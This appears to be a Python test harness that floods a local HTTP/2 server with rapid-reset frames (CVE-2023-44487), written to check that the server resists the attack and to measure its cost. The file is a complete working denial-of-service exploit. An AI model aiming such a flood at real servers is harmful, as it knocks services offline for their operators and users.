"""An HTTP/2 rapid-reset client (the CVE-2023-44487 class), for the security test and the flood
benchmark: on one h2c connection, ``HEADERS`` (a whole GET) immediately followed by
``RST_STREAM CANCEL``, many thousands of times, written as fast as the socket takes them.

The frames are built by hand from one HPACK block encoded once, so the flood costs its own
process next to nothing (a real attacker is on another machine; here the machine is shared):
what the server spends is what is measured.

Run as its own process (``python h2flood.py PORT PATH STREAMS [CONNECTIONS [SECONDS]]``) so a
test measuring the server's memory does not measure the flood's. With several connections it
goes on as an attacker would: when the server sends ``GOAWAY`` (or closes), the next connection
carries on until ``STREAMS`` streams were written in all, the connections are used up, or (with
``SECONDS``) that long has passed. Prints one JSON line: streams written (in all and per
connection), per connection the ``GOAWAY`` error code seen (None: closed without one), how long
it took and the CPU time it used.
"""

from __future__ import annotations

import json
import socket
import struct
import sys
import time

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, GOAWAY = 1, 3, 4, 7
END_STREAM, END_HEADERS = 0x1, 0x4
CANCEL = 8
#: Streams per write: big enough that the server sees frames back to back.
BATCH = 200


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return (
        struct.pack(">I", len(payload))[1:]
        + bytes([kind, flags])
        + struct.pack(">I", stream)
        + payload
    )


def flood(port: int, path: str, streams: int, deadline: float = float("inf")) -> dict[str, object]:
    block = hpack.Encoder().encode(
        [(":method", "GET"), (":scheme", "http"), (":authority", "flood"), (":path", path)]
    )
    sock = socket.create_connection(("127.0.0.1", port), timeout=30)
    sock.sendall(PREFACE + frame(SETTINGS, 0, 0, b""))
    sock.setblocking(False)
    reader = _Reader()
    sent, stream_id = 0, 1
    started = time.monotonic()
    try:
        while sent < streams and reader.open() and time.monotonic() < deadline:
            batch = []
            for _ in range(min(BATCH, streams - sent)):
                batch.append(frame(HEADERS, END_STREAM | END_HEADERS, stream_id, block))
                batch.append(frame(RST_STREAM, 0, stream_id, struct.pack(">I", CANCEL)))
                stream_id += 2
                sent += 1
            sock.setblocking(True)
            sock.sendall(b"".join(batch))
            sock.setblocking(False)
            reader.read(sock)
    except OSError:
        reader.closed = True
    elapsed = time.monotonic() - started
    # Wait (bounded) for the server's verdict: a GOAWAY, or the close.
    sock.setblocking(True)
    sock.settimeout(10)
    until = time.monotonic() + 10
    while reader.open() and time.monotonic() < until:
        reader.read(sock)
    sock.close()
    return {"sent": sent, "goaway": reader.goaway, "seconds": round(elapsed, 3)}


class _Reader:
    """What the server sends, read only for a ``GOAWAY``'s error code."""

    def __init__(self) -> None:
        self.buffer = b""
        self.goaway: int | None = None
        self.closed = False

    def open(self) -> bool:
        return self.goaway is None and not self.closed

    def read(self, sock: socket.socket) -> None:
        try:
            data = sock.recv(65536)
        except (BlockingIOError, TimeoutError):
            return
        except OSError:
            self.closed = True
            return
        if not data:
            self.closed = True
            return
        self.buffer += data
        while len(self.buffer) >= 9:
            length = int.from_bytes(self.buffer[:3], "big")
            if len(self.buffer) < 9 + length:
                break
            kind, payload = self.buffer[3], self.buffer[9 : 9 + length]
            self.buffer = self.buffer[9 + length :]
            if kind == GOAWAY and len(payload) >= 8:
                self.goaway = int.from_bytes(payload[4:8], "big")


def floods(
    port: int, path: str, streams: int, connections: int, seconds: float | None = None
) -> dict[str, object]:
    sent, goaways, each = 0, [], []
    started = time.monotonic()
    deadline = started + seconds if seconds is not None else float("inf")
    for _ in range(connections):
        if sent >= streams or time.monotonic() >= deadline:
            break
        one = flood(port, path, streams - sent, deadline)
        sent += int(one["sent"])  # type: ignore[call-overload]
        goaways.append(one["goaway"])
        each.append(one["sent"])
    elapsed = round(time.monotonic() - started, 3)
    cpu = round(time.process_time(), 3)
    return {
        "sent": sent,
        "per_connection": each,
        "goaways": goaways,
        "seconds": elapsed,
        "cpu_seconds": cpu,
    }


if __name__ == "__main__":
    port, path, count = int(sys.argv[1]), sys.argv[2], int(sys.argv[3])
    connections = int(sys.argv[4]) if sys.argv[4:] else 1
    seconds = float(sys.argv[5]) if sys.argv[5:] else None
    print(json.dumps(floods(port, path, count, connections, seconds)))
